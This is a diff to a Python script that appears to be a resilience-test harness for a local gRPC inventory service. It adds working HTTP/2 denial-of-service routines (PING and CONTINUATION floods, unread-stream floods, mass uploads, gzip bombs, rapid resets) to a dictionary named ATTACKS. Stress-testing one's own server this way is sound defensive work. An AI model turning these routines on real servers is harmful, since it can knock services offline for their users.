@@ -8,11 +8,12 @@ import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
+DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 METHOD = "/halles.inventory.v1.InventoryService/GetAvailability"
 CANCEL = b"\0\0\0\x08"
 FRAME_BYTES_MAX = 16384
+WINDOW_BYTES = 65535  # of a connection and of a stream, until the server allows more
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -36,18 +37,28 @@ def literal(name, value):
     return b"\0" + text(name) + text(value)
 
 
-def head(*more):
+def head(*more, path=METHOD):
     """The headers of a call."""
-    pairs = [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "x"),
+    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers"), *more]
     return b"".join(literal(name, value) for name, value in pairs)
 
 
-class Connection:
-    """A connection that is reopened after the server has closed it, if the server accepts it."""
+def message(body):
+    return b"\0" + struct.pack(">I", len(body)) + body
 
-    def __init__(self, port):
+
+def call(stream, headers, body):
+    """A call with its whole request."""
+    return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message(body))
+
+
+class Connection:
+    """One that is opened again when the server has closed it, unless nobody takes it. It never acknowledges SETTINGS."""
+
+    def __init__(self, port, reads=True):
         self.port = port
+        self.reads = reads
         self.opened = 0
         self.socket = None
 
@@ -58,17 +69,26 @@ class Connection:
                 self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=5)
                 self.opened += 1
                 self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
+                self.began()
             self.socket.sendall(data)
             self.socket.setblocking(False)
             with contextlib.suppress(BlockingIOError):
-                while self.socket.recv(1 << 20):
-                    pass
-                raise ConnectionResetError  # the server has closed the connection
+                while received := self.socket.recv(1 << 20, 0 if self.reads else socket.MSG_PEEK):
+                    self.received(received)
+                    if not self.reads:
+                        raise BlockingIOError
+                raise ConnectionResetError  # its end
             self.socket.settimeout(5)
             return True
         except OSError:
             self.close()
             return False
+
+    def began(self):
+        """For subclasses: it was opened."""
+
+    def received(self, data):
+        """For subclasses: so much came."""
 
     def close(self):
         if self.socket is not None:
@@ -76,9 +96,81 @@ class Connection:
             self.socket = None
 
 
-def many(port, seconds, count, bytes_of):
-    """Uses `count` connections in turn; each sends the result of `bytes_of(number of its frames so far)`."""
-    connections = [Connection(port) for _ in range(count)]
+class Uploads(Connection):
+    """Sends large messages on many streams at once, no faster than the server allows."""
+
+    def __init__(self, port, headers, body, streams_max, ends):
+        super().__init__(port)
+        self.headers = headers
+        self.bytes = message(body)
+        self.streams_max = streams_max
+        self.ends = ends
+
+    def began(self):
+        self.buffer = bytearray()
+        self.window = WINDOW_BYTES
+        self.windows = {}
+        self.sent = {}
+        self.newest = -1
+
+    def received(self, data):
+        self.buffer += data
+        while len(self.buffer) >= 9:
+            length = int.from_bytes(self.buffer[:3], "big")
+            if len(self.buffer) < 9 + length:
+                return
+            kind, flags = self.buffer[3], self.buffer[4]
+            stream = int.from_bytes(self.buffer[5:9], "big")
+            if kind == WINDOW_UPDATE and stream == 0:
+                self.window += int.from_bytes(self.buffer[9:13], "big")
+            elif kind == WINDOW_UPDATE and stream in self.windows:
+                self.windows[stream] += int.from_bytes(self.buffer[9:13], "big")
+            elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
+                self.sent.pop(stream, None)
+                self.windows.pop(stream, None)
+            del self.buffer[:9 + length]
+
+    def step(self):
+        """The next frames that may be sent."""
+        if self.socket is None:
+            return b""
+        out = bytearray()
+        if len(self.sent) < self.streams_max:
+            self.newest += 2
+            self.windows[self.newest], self.sent[self.newest] = WINDOW_BYTES, 0
+            out += frame(HEADERS, END_HEADERS, self.newest, self.headers)
+        for stream, sent in list(self.sent.items()):
+            left = len(self.bytes) - sent - (0 if self.ends else 1)
+            size = min(FRAME_BYTES_MAX, left, self.window, self.windows[stream])
+            if size <= 0:
+                continue
+            last = END_STREAM if self.ends and size == left else 0
+            out += frame(DATA, last, stream, self.bytes[sent:sent + size])
+            self.sent[stream] += size
+            self.windows[stream] -= size
+            self.window -= size
+            if len(out) > 1 << 18:
+                break
+        return bytes(out)
+
+
+def upload(port, seconds, count, **how):
+    connections = [Uploads(port, **how) for _ in range(count)]
+    until = time.monotonic() + seconds
+    sent = 0
+    while time.monotonic() < until:
+        for connection in connections:
+            data = connection.step()
+            if connection.send(data):
+                sent += len(data)
+            if time.monotonic() >= until:
+                break
+    return f"{sent >> 20} MiB over {sum(connection.opened for connection in connections)} connections"
+
+
+def many(port, seconds, count, bytes_of, reads=True):
+    """`count` connections in turn, each sending what `bytes_of(number of its frames so far)` gives."""
+    connections = [Connection(port, reads) for _ in range(count)]
     steps = [0] * count
     until = time.monotonic() + seconds
     sent = 0
@@ -126,19 +218,13 @@ def halves(port, seconds):
 
 def large_halves(port, seconds):
     """Fifty connections of calls with nearly a mebibyte each, whose last byte never comes."""
-    headers = head()
-    step_bytes = frame(DATA, 0, 1, bytes(FRAME_BYTES_MAX))
+    return upload(port, seconds, 50, headers=head(), body=bytes(1_000_000), streams_max=1000, ends=False)
 
-    def data(step):
-        stream = 1 + 2 * (step // 60)
-        if stream > 2000:
-            return None
-        if step % 60 == 0:
-            return (frame(HEADERS, END_HEADERS, stream, headers) +
-                    frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1_000_000)))
-        return step_bytes[:5] + struct.pack(">I", stream) + step_bytes[9:]
 
-    return many(port, seconds, 50, data)
+def large_requests(port, seconds):
+    """Fifty connections of calls with nearly a mebibyte each, in a field that nobody knows, as many as may come."""
+    body = b"\x7a" + b"\xc0\x84\x3d" + bytes(1_000_000)  # field 15
+    return upload(port, seconds, 50, headers=head(), body=body, streams_max=100, ends=True)
 
 
 def long_headers(port, seconds):
@@ -150,8 +236,8 @@ def long_headers(port, seconds):
         stream = 1 + 2 * step
         out = frame(HEADERS, 0, stream, parts[0])
         for part in parts[1:-1]:
-            out += frame(9, 0, stream, part)
-        return out + frame(9, END_HEADERS, stream, parts[-1])
+            out += frame(CONTINUATION, 0, stream, part)
+        return out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])
 
     return many(port, seconds, 50, data)
 
@@ -162,28 +248,74 @@ def settings(port, seconds):
     return many(port, seconds, 4, lambda step: burst)
 
 
+def pings(port, seconds):
+    """Nothing but PINGs, each of which wants an answer that is not read."""
+    burst = frame(PING, 0, 0, bytes(8)) * 1000
+    return many(port, seconds, 4, lambda step: burst, reads=False)
+
+
 def bombs(port, seconds):
     """Small messages that would inflate to 200 MiB."""
     packed = gzip.compress(bytes(200 << 20), 9)
-    message = b"\1" + struct.pack(">I", len(packed)) + packed
+    bomb = b"\1" + struct.pack(">I", len(packed)) + packed
     headers = head(("grpc-encoding", "gzip"))
 
     def data(step):
         stream = 1 + 2 * step
         out = frame(HEADERS, END_HEADERS, stream, headers)
-        for at in range(0, len(message), FRAME_BYTES_MAX):
-            last = END_STREAM if at + FRAME_BYTES_MAX >= len(message) else 0
-            out += frame(DATA, last, stream, message[at:at + FRAME_BYTES_MAX])
+        for at in range(0, len(bomb), FRAME_BYTES_MAX):
+            last = END_STREAM if at + FRAME_BYTES_MAX >= len(bomb) else 0
+            out += frame(DATA, last, stream, bomb[at:at + FRAME_BYTES_MAX])
         return out
 
     return many(port, seconds, 4, data)
 
 
+def hundreds(of_stream):
+    """For `many`: a hundred calls a step."""
+    return lambda step: b"".join(of_stream(1 + 2 * (step * 100 + number)) for number in range(100))
+
+
 def unknown_methods(port, seconds):
-    """Calls of unknown methods, without reading the answers."""
-    headers = head().replace(METHOD.encode(), METHOD.replace("Get", "Got").encode())
-    return many(port, seconds, 4, lambda step: b"".join(
-        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * (step * 100 + number), headers) for number in range(100)))
+    """Calls of methods that nobody has, faster than they are answered."""
+    headers = head(path=METHOD.replace("Get", "Got"))
+    return many(port, seconds, 4, hundreds(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)))
+
+
+def unread_unknown(port, seconds):
+    """The same, and no answer is read."""
+    headers = head(path=METHOD.replace("Get", "Got"))
+    return many(port, seconds, 4, hundreds(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)),
+                reads=False)
+
+
+def unread_answers(port, seconds):
+    """Calls of a method that somebody has, whose answers are not read."""
+    headers = head()
+    return many(port, seconds, 4, hundreds(lambda stream: call(stream, headers, b"\n\1A")), reads=False)
+
+
+def unread_streams(port, seconds):
+    """Two hundred connections that read the log on a hundred streams each, and take no record."""
+    headers = head(path="/halles.admin.v1.AdminService/TailLog")
+
+    def data(step):
+        if step > 0:
+            return None
+        return b"".join(call(1 + 2 * number, headers, b"\n\x08checkout\x10" + bytes([number % 8]) + b"\x28\x01")
+                        for number in range(100))
+
+    return many(port, seconds, 200, data, reads=False)
+
+
+def unread_watches(port, seconds):
+    """A thousand connections that watch the health on a hundred streams each."""
+    headers = head(path="/grpc.health.v1.Health/Watch")
+
+    def data(step):
+        return b"".join(call(1 + 2 * number, headers, b"") for number in range(100)) if step == 0 else None
+
+    return many(port, seconds, 1000, data, reads=False)
 
 
 def connections(port, seconds):
@@ -217,8 +349,9 @@ def scrapes(port, seconds):
 
 
 ATTACKS = {function.__name__: function
-           for function in (resets, halves, large_halves, long_headers, settings, bombs, unknown_methods, connections,
-                            scrapes)}
+           for function in (resets, halves, large_halves, large_requests, long_headers, settings, pings, bombs,
+                            unknown_methods, unread_unknown, unread_answers, unread_streams, unread_watches,
+                            connections, scrapes)}
 
 if __name__ == "__main__":
     print(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3])))
